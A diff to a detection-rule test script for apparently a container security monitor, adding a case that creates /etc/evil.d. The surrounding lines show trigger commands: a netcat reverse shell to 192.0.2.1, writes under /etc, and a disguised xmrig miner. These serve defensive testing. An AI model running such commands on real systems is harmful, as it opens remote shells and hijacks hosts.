@@ -365,6 +365,8 @@ t_default_rules() {
 	verdict "Shell spawned in a running container" "$TAG-early" '.process.name == "sh"'
 	run "$TAG-r-etc" -- sh -c 'echo x > /etc/evil'
 	verdict "Write below a system directory" "$TAG-r-etc" '.file.path == "/etc/evil"'
+	run "$TAG-r-sysdir" -- sh -c 'mkdir /etc/evil.d'
+	verdict "System directory changed" "$TAG-r-sysdir" '.file.path == "/etc/evil.d"'
 	run "$TAG-r-nc" -- nc -e /bin/sh 192.0.2.1 4444
 	verdict "Netcat with command execution" "$TAG-r-nc"
 	run "$TAG-r-miner" -- sh -c 'cp /bin/busybox /tmp/xmrig; /tmp/xmrig --url stratum+tcp://192.0.2.1:3333'
